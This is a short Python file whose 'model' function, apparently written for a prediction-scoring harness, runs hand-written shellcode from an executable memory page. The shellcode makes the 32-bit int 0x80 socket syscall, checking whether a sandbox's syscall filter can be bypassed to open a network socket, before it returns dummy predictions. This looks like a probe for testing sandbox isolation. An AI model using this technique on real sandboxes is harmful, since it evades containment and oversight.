import ctypes
import mmap

import numpy as np
import pandas as pd


def model(live_features):
    # push rbx; eax = 359, socket of 32-bit programs; ebx = AF_INET; ecx = SOCK_STREAM; edx = 0; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 b867010000 bb02000000 b901000000 31d2 cd80 5b c3")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print("LEAK a TCP socket" if call() >= 0 else "refused")
    return pd.DataFrame({"prediction": np.linspace(0, 1, len(live_features))}, live_features.index)
